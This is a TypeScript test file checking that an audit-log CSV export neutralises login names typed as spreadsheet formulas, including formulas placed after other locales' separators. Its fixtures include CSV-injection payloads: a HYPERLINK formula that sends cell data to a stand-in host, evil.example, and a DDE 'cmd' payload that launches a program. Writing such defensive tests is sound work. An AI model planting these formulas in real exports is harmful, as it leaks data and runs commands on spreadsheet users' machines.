// A CSV export never hands a spreadsheet a formula: a cell that starts with =, +, -, @, a tab or a carriage
// return (a login name typed as `=HYPERLINK(...)`, which becomes the attempt's aggregate id) is defused with a
// leading `'`, OWASP's rule, and so is one after a `;`, a tab or a line break, where a spreadsheet reading with
// another locale's separator starts a cell (`x;=1+1;`); every other cell is as stored, the envelope as the same
// JSON.
import { afterAll, describe, expect, it } from "vitest";
import { historyReadable } from "../../test/auditHistory.ts";
import { parseCsv } from "../../test/csv.ts";
import { testDatabase } from "../../test/fixtures.ts";
import { caller, testPlatform } from "../../test/tokens.ts";
import { csvField } from "./exportFormats.ts";

const db = testDatabase();
const app = testPlatform(db);
afterAll(() => db.$client.end());

const suffix = Math.random().toString(36).slice(2, 10);
/** Logins typed as formulas, and the cell each becomes: a `'` before it (after a tab or CR too, see below). */
const typedLogins: [typed: string, cell: string][] = [
  [
    `=HYPERLINK("https://evil.example/?leak="&A1,"Click")-${suffix}`,
    `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")-${suffix}`,
  ],
  [`+1+cmd|' /C calc'!A0-${suffix}`, `'+1+cmd|' /C calc'!A0-${suffix}`],
  [`-2+3-${suffix}`, `'-2+3-${suffix}`],
  [`@SUM(1+1)-${suffix}`, `'@SUM(1+1)-${suffix}`],
  [`\t=1+1-${suffix}`, `'\t'=1+1-${suffix}`],
  [`\r=1+1-${suffix}`, `'\r'=1+1-${suffix}`],
  [`＝1+1-${suffix}`, `'＝1+1-${suffix}`],
];

/**
 * Logins whose formula follows a separator of another locale (`;`, a tab) or a line break: a spreadsheet that
 * splits the file there starts a cell with it, and the quotes of the comma-separated field do not stand at
 * that cell's start.
 */
const separatedLogins = [
  `x;=1+1;-${suffix}`,
  `x;=HYPERLINK(CHAR(104)&CHAR(116));@SUM(1);+2;-3;-${suffix}`,
  `x\t=1+1\t-${suffix}`,
  `x\n=1+1;-${suffix}`,
  `x\r\n@SUM(1);-${suffix}`,
  `x;\t=1+1;-${suffix}`,
];

async function recordFailedLogin(username: string): Promise<void> {
  const service = await caller("service");
  const response = await app.request("/internal/login-attempts", {
    method: "POST",
    headers: service.headers({ "Content-Type": "application/json" }),
    body: JSON.stringify({
      userId: null,
      username,
      method: "PASSWORD",
      success: false,
      reason: "no such user",
    }),
  });
  expect(response.status).toBe(201);
}

async function exportOf(username: string): Promise<string> {
  await historyReadable(db, { column: "aggregate_id", value: username });
  const auditor = await caller("auditor");
  const query = new URLSearchParams({ aggregateType: "actor", aggregateId: username, format: "csv" });
  const response = await app.request(`/audit/events/export?${query}`, { headers: auditor.headers() });
  expect(response.status).toBe(200);
  return response.text();
}

async function exportedRowOf(username: string): Promise<Record<string, string>> {
  const [header, ...rows] = parseCsv(await exportOf(username));
  expect(rows.at(-1)?.[0]).toBe("# export complete: 1 events");
  rows.pop();
  expect(rows).toHaveLength(1);
  return Object.fromEntries((header ?? []).map((name, i) => [name, rows[0]?.[i] ?? ""]));
}

describe("the CSV export and spreadsheet formulas", () => {
  for (const [username, cell] of typedLogins) {
    it(`defuses a login typed as ${JSON.stringify(username.slice(0, 12))}…: the cell is text, the value intact`, async () => {
      await recordFailedLogin(username);
      const row = await exportedRowOf(username);
      expect(row.aggregateId).toBe(cell);
      // The envelope cell starts with "{", so it keeps the typed name byte for byte.
      expect(JSON.parse(row.envelope ?? "").data.username).toBe(username);
      const live = Object.values(row).filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
      expect(live).toEqual([]);
    });
  }

  for (const username of separatedLogins) {
    it(`defuses a formula after a separator of another locale in ${JSON.stringify(username.slice(0, 12))}…, whichever separator a spreadsheet reads with`, async () => {
      await recordFailedLogin(username);
      const exported = await exportOf(username);
      for (const separator of [",", ";", "\t"]) {
        const live = parseCsv(exported, separator)
          .flat()
          .filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
        expect(live, `read with ${JSON.stringify(separator)}`).toEqual([]);
      }
      const row = await exportedRowOf(username);
      // The envelope is the same JSON, its semicolons written \u003b: the typed name comes back byte for byte.
      expect(JSON.parse(row.envelope ?? "").data.username).toBe(username);
    });
  }

  it("leaves ordinary cells as they are, negative-looking ones included only once defused", () => {
    expect(csvField("ada@example.org")).toBe("ada@example.org");
    expect(csvField("2024-01-15T10:30:00.000Z")).toBe("2024-01-15T10:30:00.000Z");
    expect(csvField("-1")).toBe(`"'-1"`);
    expect(csvField('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });
});
